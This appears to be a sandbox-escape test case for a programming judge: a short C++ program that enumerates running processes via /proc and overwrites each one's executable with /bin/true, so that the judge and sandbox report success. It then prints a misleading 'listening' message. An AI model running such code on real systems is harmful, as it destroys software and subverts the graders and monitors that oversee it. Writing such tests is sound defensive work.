// Writes true(1) over its own file, the judge's and the sandbox's, so that the next start of any of them is that.
// Attacks: programs that a program under judgement can change
// Expects: wrong, 0 points
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>

namespace fs = std::filesystem;

int main() {
    std::error_code none;
    for (const auto& process : fs::directory_iterator{"/proc", none}) {
        const fs::path program = fs::read_symlink(process.path() / "exe", none);
        if (program.empty())
            continue;
        if (fs::remove(program, none))
            std::cout << "portlab-forged: removed " << program << '\n';
        fs::copy_file("/bin/true", program, fs::copy_options::overwrite_existing, none);
        if (!none)
            std::cout << "portlab-forged: wrote " << program << '\n';
    }
    std::cout << "listening on 127.0.0.1:40123" << std::endl;
}
